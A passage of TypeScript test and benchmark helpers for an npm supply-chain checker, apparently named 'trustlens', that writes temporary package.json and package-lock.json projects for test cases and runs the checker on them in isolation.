      targets: [`${name4}@6.3.1`],
    });
  }

  return { corpus: await b.build(), cases };
}

/** Writes a project installing a case's packages (package.json and a package-lock.json v3); returns its folder. */
export function writeShapeProject(shapes: Shapes, c: ShapeCase, registryUrl: string): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), `trustlens-shape-${c.id}-`));
  const dependencies: Record<string, string> = {};
  const packages: Record<string, unknown> = {};
  for (const e of c.installs) {
    const folder = e.alias ?? e.name;
    if (e.git) {
      dependencies[folder] = e.git;
      packages[`node_modules/${folder}`] = { version: e.version, resolved: e.git, optional: true };
      continue;
    }
    // The ranges people write: ^major.0.0 (^0.minor.0 below 1.0.0), so a safe version may be an older release.
    const range = e.version.startsWith('0.') ? `^0.${e.version.split('.')[1]}.0` : `^${e.version.split('.')[0]}.0.0`;
    dependencies[folder] = e.alias ? `npm:${e.name}@${range}` : range;
    const doc = shapes.corpus.packuments.get(e.name)?.versions[e.version];
    if (!doc) throw new Error(`${c.id}: ${e.name}@${e.version} is not in the corpus`);
    const deps = { ...(doc.dependencies as Record<string, string> | undefined) };
    const optional = doc.optionalDependencies as Record<string, string> | undefined;
    packages[`node_modules/${folder}`] = {
      ...(e.alias ? { name: e.name } : {}),
      version: e.version,
      resolved: `${registryUrl}${tarballPath(e.name, e.version).slice(1)}`,
      integrity: doc.dist.integrity,
      ...(Object.keys(deps).length ? { dependencies: deps } : {}),
      ...(optional ? { optionalDependencies: optional } : {}),
      ...(doc.hasInstallScript ? { hasInstallScript: true } : {}),
    };
  }
  packages[''] = { name: `shape-${c.id}`, version: '1.0.0', dependencies };
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: `shape-${c.id}`, version: '1.0.0', dependencies }, null, 2));
  fs.writeFileSync(
    path.join(dir, 'package-lock.json'),
    JSON.stringify({ name: `shape-${c.id}`, version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2),
  );
  return dir;
}

/**
 * Judges a case the way `npm run bench:detect` and the tests both do: its project (writeShapeProject) through the
 * whole engine as of SHAPES_NOW, with no advisory source and none of this machine's npm setup. `options` add to or
 * override the check's options: the bench gives the test Sigstore root as `trust` and `content: 'deep'`. The
 * project folder is removed once the check has ended, whatever its outcome.
 */
export async function checkShape(shapes: Shapes, c: ShapeCase, registryUrl: string, options: Partial<CheckOptions> = {}): Promise<CheckReport> {
  const dir = writeShapeProject(shapes, c, registryUrl);
  try {
    return await runCheck({
      projectDir: dir,
      registry: registryUrl,
      now: new Date(SHAPES_NOW),
      env: isolatedNpmEnv(dir),
      advisories: { npm: false, osv: false },
      ...options,
    });
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}
